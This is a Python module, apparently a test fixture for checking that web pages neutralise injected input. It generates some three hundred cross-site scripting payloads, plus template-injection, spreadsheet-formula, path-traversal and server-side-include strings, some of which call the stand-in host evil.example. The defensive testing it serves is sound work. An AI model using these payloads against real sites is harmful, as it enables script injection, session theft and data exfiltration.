"""Some three hundred texts with which people have made pages run what they wrote: none may do more than stand there."""

from __future__ import annotations

from itertools import product
from urllib.parse import quote

_EVIL = "//evil.example/x"
# What would be seen: a dialog, a request elsewhere, a refusal by the Content-Security-Policy.
_CALLS = ("alert(1)", "top['ale'+'rt'](2)", f"fetch('{_EVIL}')", f"import('{_EVIL}.js')")
_ELEMENTS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<math><mtext><script>{call}</script></mtext></math>",
    "<template><script>{call}</script></template>",
    "<a href=javascript:{call}>x</a>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<object data=javascript:{call}></object>",
    "<style onload={call}></style>",
    "<marquee onstart={call}>x</marquee>",
)
# To leave an attribute, a comment, an element, a script, a template of ours or of the browser's library.
_WAYS_OUT = (
    "", '"', "'", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", "</select>", "]]>", "}}", "%}",
    "</bdi></p>", "</template>", "\n\n", "\\", "`", "&#34;>",
)  # fmt: skip
_ON_THEIR_OWN = (
    f'<img src="{_EVIL}.png">',
    f'<link rel=stylesheet href="{_EVIL}.css">',
    f'<script src="{_EVIL}.js"></script>',
    f'<base href="{_EVIL}">',
    f'<meta http-equiv=refresh content="0;url={_EVIL}">',
    f'<iframe src="{_EVIL}"></iframe>',
    f'<audio src="{_EVIL}.mp3" autoplay></audio>',
    f"<style>@import '{_EVIL}.css';</style>",
    f'<p style="background:url({_EVIL}.png)">x</p>',
    f'<svg><image href="{_EVIL}.svg"/></svg>',
    f'<form action="{_EVIL}" id=f></form><button form=f formaction="{_EVIL}">x</button>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" style="position:fixed;inset:0" x="',
    '" hx-get="/sign-out" hx-trigger="load" x="',
    '" data-action="lost" x="',
    f'<div hx-get="{_EVIL}" hx-trigger="load">x</div>',
    '<hx-partial hx-target="body" hx-swap="innerHTML"><b>taken</b></hx-partial>',
    '</hx-partial><hx-partial hx-target="#toasts">x</hx-partial>',
    '<template hx type="partial" hx-target="body">x</template>',
    '<div hx-on:click="alert(1)" hx-swap-oob="true" id="main">x</div>',
    "{{7*7}}{{ visit.building.database }}",
    "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "{{ customer.first_name | default: '<script>alert(1)</script>' }}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "[click](javascript:alert(1)) ![x](//evil.example/x.png) <https://evil.example>",
    "**bold** # head <b>b</b>",
    "\u202etxt.exe\u202c", "\u2028alert(1)\u2029", "\ufeff<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cimg src=x onerror=alert(1)\\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<img src=x onerror=alert(1)>>", "<img/src=x/onerror=alert(1)//",
    "<IMG SRC=x ONERROR=alert(1)>", "<img src=x onerror\t=\nalert(1)>", "<a href='java\tscript:alert(1)'>x</a>",
    "<svg/onload=&#97;lert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<x contenteditable onblur=alert(1)>x",
    "'); alert(1); //", '"-alert(1)-"', "*/alert(1)/*", "--></script><script>alert(1)</script><!--",
    "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "../../../../etc/passwd", '<!--#exec cmd="id"-->',
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each short enough for a line."""
    elements = [element.format(call=call) for element, call in product(_ELEMENTS, _CALLS)]
    out = [
        way + element.format(call=_CALLS[index % len(_CALLS)])
        for index, (way, element) in enumerate(product(_WAYS_OUT[1:], _ELEMENTS[:9]))
    ]
    encoded = [quote(one) for one in elements[:20]]
    return list(dict.fromkeys([*elements, *out, *encoded, *_ON_THEIR_OWN]))
